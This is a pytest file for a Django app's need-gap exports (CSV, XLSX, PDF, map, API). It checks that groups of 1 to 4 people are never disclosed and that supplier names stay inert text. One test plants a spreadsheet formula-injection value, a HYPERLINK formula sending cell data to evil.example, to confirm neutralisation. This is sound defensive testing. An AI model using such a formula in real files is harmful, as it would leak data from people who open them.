"""The gap table as CSV, XLSX and PDF; and, over random territories, that no page, export, map label
or API item ever shows a group of 1 to 4 people."""

import csv
import io
import re
from decimal import Decimal

import pypdfium2
import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conciliare.accounts.imports.validation import FORMULA_PREFIXES
from conciliare.api.needs_gaps import GapMunicipalitySerializer
from conciliare.catalogue.categories import Category
from conciliare.catalogue.tests.factories import make_offer, make_supplier
from conciliare.core.disclosure import MIN_GROUP
from conciliare.needs import exports, gaps, svgmap
from conciliare.needs.gaps import GapAnalysis, GapCell, Place, Suggestion, disclosed_row

from .test_gaps import Territory, make_territory, populated  # noqa: F401

SMALL = {"1", "2", "3", "4"}


@pytest.fixture(autouse=True)
def english(client) -> None:
    client.cookies["django_language"] = "en"
    with translation.override("en"):
        yield


@pytest.fixture
def territory(db, settings) -> Territory:
    settings.CONCILIARE_KM_ZERO_RADIUS_KM = 10
    return make_territory()


def _csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_csv_has_a_row_per_municipality_with_the_figures_of_the_page(populated, cast, client, login) -> None:  # noqa: F811
    login(cast.operator_olga)
    response = client.get(reverse("needs:gap_csv"))
    assert response["Content-Disposition"].startswith('attachment; filename="mappa-dei-bisogni-nursery-')
    rows = _csv(response.content)
    assert rows[0][:8] == [
        "Category",
        "Municipality",
        "ISTAT code",
        "District",
        "People who need it",
        "Places",
        "Gap",
        "Coverage",
    ]
    mine = {row[1]: row for row in rows[1:] if len(row) > 3 and row[3] == "Ambito di Prova"}
    assert mine["Bravo"] == [
        "Nursery (asilo nido)", "Bravo", "099002", "Ambito di Prova", "12", "6", "6", "Partly covered", "5.6",
        "fewer than 5", "fewer than 5", "fewer than 5", "",
    ]  # fmt: skip
    assert rows[0][11] == "People signalling with no category"
    assert mine["Alfa"][4:7] == ["7", "6", "fewer than 5"]
    assert mine["Charlie"][4:9] == ["7", "0", "7", "Not covered", ""]
    assert mine["Charlie"][12] == "Nido Alfa (13.3 km); Nido Delta (20.0 km)"
    assert mine["Delta"][4:8] == ["fewer than 5", "7", "", "Service within reach"]
    assert any("fewer than 5" in row[0] for row in rows if len(row) == 1)  # the notes at the bottom


def test_every_category_in_one_file(territory, cast, client, login) -> None:
    login(cast.consultant_dario)
    rows = [row for row in _csv(client.get(reverse("needs:gap_csv"), {"categoria": "tutte"}).content) if len(row) > 3]
    alliance = 42 + 4
    assert len(rows) - 1 == alliance * len(Category.values)
    assert {row[0] for row in rows[1:]} == {str(label) for _code, label in Category.choices}


def test_the_xlsx_keeps_numbers_as_numbers(populated, cast, client, login) -> None:  # noqa: F811
    login(cast.monitoring_elena)
    response = client.get(reverse("needs:gap_xlsx"))
    assert response["Content-Type"] == exports.XLSX_TYPE
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    rows = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["Bravo"][4:9] == (12, 6, 6, "Partly covered", 5.6)
    assert rows["Delta"][4:7] == ("fewer than 5", 7, None)  # no gap without a demand
    assert rows["Charlie"][8] is None
    assert book.worksheets[1]["A1"].value.startswith("Counts of people under 5")


def test_the_pdf_has_the_map_the_legend_and_the_table(populated, cast, client, login) -> None:  # noqa: F811
    login(cast.operator_olga)
    response = client.get(reverse("needs:gap_pdf"), {"categoria": "nursery"})
    assert response["Content-Type"] == "application/pdf" and response.content.startswith(b"%PDF-")
    document = pypdfium2.PdfDocument(io.BytesIO(response.content))
    text = " ".join(page.get_textpage().get_text_range() for page in document)
    text = re.sub(r"\s+", " ", text)
    assert "Map of the gaps: Nursery (asilo nido)" in text
    assert "Not covered: 5 or more people need it, no service within reach" in text  # the legend
    assert "Charlie" in text and "Nido Alfa, 13.3 km" in text
    printed = _printed_table(text, gaps.gap_analysis([Category.NURSERY]).rows(Category.NURSERY))
    assert printed["Delta"][0] == "< 5" and printed["Alfa"][2] == "< 5"  # 3 people; a gap of 1
    assert printed["Bravo"][:3] == ("12", "6", "6") and printed["Charlie"][:3] == ("7", "0", "7")
    small = {
        (name, column): cells[column]
        for name, cells in printed.items()
        for column in (0, 2, 4, 5, 6)  # people, gap and the three counts of signals (not places, not km)
        if cells[column] in SMALL
    }
    assert not small


# A printed row: name, people, places, gap, coverage, km, three counts of signals (the map's <title>s don't print).
_COUNT = r"(< 5|–|[\d,]+)"
_ROW = rf" {_COUNT} ([\d,]+(?: \+ not stated)?) {_COUNT} (?:{{labels}}) (–|[\d.,]+) {_COUNT} {_COUNT} {_COUNT}(?= |$)"


def _printed_table(text: str, rows: list[gaps.GapRow]) -> dict[str, tuple[str, ...]]:
    """The cells the PDF prints for each municipality of the table, as its text layer reads them."""
    labels = "|".join(re.escape(str(label)) for label in gaps.CLASS_SHORT.values())
    printed = {}
    for row in rows:
        found = re.findall(re.escape(row.place.name) + _ROW.format(labels=labels), text)
        assert len(found) == 1, (row.place.name, found)
        people, places, gap, km, supplier, need, any_ = found[0]
        printed[row.place.name] = (people, places, gap, km, supplier, need, any_)
    return printed


# --- Names a spreadsheet would run as formulas ------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_formula_in_a_suppliers_name_stays_text_in_both_exports(territory) -> None:
    # Suppliers choose their names: this one is suggested for Charlie, where nothing is within reach.
    evil = make_supplier(name=EVIL, municipality_name="Bravo", radius_km=3, categories=[Category.NURSERY])
    make_offer(evil, category=Category.NURSERY, capacity=3)
    analysis = gaps.gap_analysis([Category.NURSERY])
    lines = [line for line in _csv(exports.gap_csv(analysis))[1:] if len(line) > 3]
    texts = [value for line in lines for value in line]
    charlie = next(line for line in lines if line[1] == "Charlie" and line[0] == "Nursery (asilo nido)")
    assert charlie[12].startswith("'" + EVIL)
    assert not [value for value in texts if value.startswith(FORMULA_PREFIXES)]
    book = load_workbook(io.BytesIO(exports.gap_xlsx(analysis)))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if cell.value.startswith(FORMULA_PREFIXES)]
    assert any(cell.value.startswith("'" + EVIL) for cell in cells)


def test_every_formula_prefix_is_neutralised() -> None:
    places = [Place(pk, f"0160{pk:02d}", f"Comune {pk}", "Val Cavallina", (45.0, 9.8)) for pk in range(8)]
    names = [f"{prefix}1+1 Nido" for prefix in FORMULA_PREFIXES]
    cells = [
        GapCell(place, "nursery", 0, 0, False, 0, False, None, (Suggestion(name, Decimal("3.4")),), 0, 0)
        for place, name in zip(places, names, strict=False)
    ]
    analysis = GapAnalysis(places, {"nursery": cells}, Decimal("10"))
    with translation.override("en"):
        lines = _csv(exports.gap_csv(analysis))[1 : len(cells) + 1]
        book = load_workbook(io.BytesIO(exports.gap_xlsx(analysis)))
    assert [line[12] for line in lines] == [f"'{name} (3.4 km)" for name in names]
    sheet = list(book.worksheets[0].iter_rows(min_row=2, max_row=len(cells) + 1))
    # (XML reads a carriage return back as a line feed.)
    expected = [(f"'{name} (3.4 km)".replace("\r", "\n"), "s") for name in names]
    assert [(row[12].value, row[12].data_type) for row in sheet] == expected


def test_inert_leaves_other_values_alone() -> None:
    assert exports.inert("Nido - Bello") == "Nido - Bello"
    assert exports.inert("-3") == "'-3"
    assert exports.inert(-3) == -3 and exports.inert(None) is None and exports.inert(Decimal("1.5")) == Decimal("1.5")


# --- The group-size rule, over random territories ------------------------------------------------------------

people = st.integers(min_value=0, max_value=40)
few = st.integers(min_value=0, max_value=7)


@st.composite
def analyses(draw: st.DrawFn) -> GapAnalysis:
    count = draw(st.integers(min_value=1, max_value=6))
    places = [Place(pk, f"0160{pk:02d}", f"Comune {pk}", "Val Cavallina", (45 + pk / 50, 9.8)) for pk in range(count)]
    cells = [
        GapCell(
            place=place,
            category="nursery",
            demand=draw(people),
            capacity=draw(st.integers(min_value=0, max_value=12)),
            capacity_unstated=draw(st.booleans()),
            offers=0,
            in_reach=draw(st.booleans()),
            nearest_km=draw(st.one_of(st.none(), st.decimals(min_value=0, max_value=60, places=1))),
            suggestions=(Suggestion("Nido", Decimal("3.4")),),
            **signals(draw(few), draw(few), draw(few)),
            signals_any=draw(people),
        )
        for place in places
    ]
    return GapAnalysis(places, {"nursery": cells}, Decimal("10"))


def signals(supplier_only: int, need_only: int, both: int) -> dict[str, int]:
    """The two kinds of a cell from who sent what: people of one kind only, of the other only, of both."""
    return {"signals_supplier": supplier_only + both, "signals_need": need_only + both}


PEOPLE_COLUMNS = (4, 6, 9, 10, 11)  # demand, gap, the two kinds of signal and the uncategorised in cells() and the CSV


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(analysis=analyses())
def test_no_page_export_map_or_api_shows_one_to_four_people(analysis: GapAnalysis) -> None:
    with translation.override("en"):
        rows = analysis.rows("nursery")
        for line in _csv(exports.gap_csv(analysis))[1 : len(rows) + 1]:
            assert not {line[index] for index in PEOPLE_COLUMNS} & SMALL, line
        book = load_workbook(io.BytesIO(exports.gap_xlsx(analysis)))
        for line in book.worksheets[0].iter_rows(min_row=2, values_only=True):
            assert not {line[index] for index in PEOPLE_COLUMNS} & {1, 2, 3, 4}, line
        table = render_to_string(
            "needs/gap_table.html", {"rows": exports.shown_rows(rows), "category_label": "Nursery"}
        )
        for row in re.findall(r"<tr id=.*?</tr>", table, re.S):
            cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
            assert not {cells[0], cells[2], cells[5], cells[6], cells[7]} & SMALL, cells
        boundaries = {
            place.pk: {"type": "Polygon", "coordinates": [[[9.8, 45], [9.9, 45], [9.9, 45.1], [9.8, 45]]]}
            for place in analysis.places
        }
        markup = str(svgmap.gap_svg(analysis, "nursery", boundaries))
        assert not re.search(r"(people who need it|supplier|unmet need|no category): [1-4][;<\"]", markup)
        assert not re.search(r">[1-4]</text>", markup)
        for item in GapMunicipalitySerializer(rows, many=True).data:
            for field in ("demand", "gap", "signals_supplier_wanted", "signals_unmet_need", "signals_without_category"):
                assert item[field] not in (1, 2, 3, 4), (field, item)
        # No count of people of both kinds together, whose difference with a kind shown would be a hidden one:
        # the signal figures of a row are the ones the table shows, nothing worked out from the hidden people.
        for row in rows:
            shown = {row.signals_supplier, row.signals_need} - {None}
            assert row.signals in shown | {None}
            assert (row.signals is None) is (not shown)
            numbers = {int(n) for n in re.findall(r"(?:supplier|unmet need): (\d+)", gaps.describe(row))}
            assert numbers <= shown, (numbers, shown)
            # So no figure counts the people of both kinds together: no difference of two figures of a row is a
            # part of a whole (the people of a hidden kind, of one kind only, of both). See also the next test.


def test_no_hidden_group_of_signallers_can_be_worked_out_from_a_row() -> None:
    """Every way of sending signals with up to 14 people of each kind: whatever a row shows, each group behind it
    (one kind only, the other only, both, each kind, either) could still be empty or 5 or more."""
    place = Place(1, "016001", "Comune", "Val Cavallina", (45.0, 9.8))
    behind: dict[tuple[int | None, ...], list[tuple[int, int, int]]] = {}
    span = range(0, 20)  # wider than the rows looked at below, so that all the ways behind them are here
    for supplier_only in span:
        for need_only in span:
            for both in span:
                cell = GapCell(
                    place, "nursery", 0, 0, False, 0, False, None, (), **signals(supplier_only, need_only, both)
                )
                row = disclosed_row(cell)
                seen = (row.signals_supplier, row.signals_need, row.signals)
                behind.setdefault(seen, []).append((supplier_only, need_only, both))
    for seen, ways in behind.items():
        if max((figure for figure in seen if figure is not None), default=0) > 14:
            continue
        groups = {
            "supplier only": {a for a, _b, _c in ways},
            "need only": {b for _a, b, _c in ways},
            "both": {c for _a, _b, c in ways},
            "supplier": {a + c for a, _b, c in ways},
            "need": {b + c for _a, b, c in ways},
            "either": {a + b + c for a, b, c in ways},
        }
        for name, possible in groups.items():
            assert possible & ({0} | set(range(MIN_GROUP, 100))), (seen, name, sorted(possible))
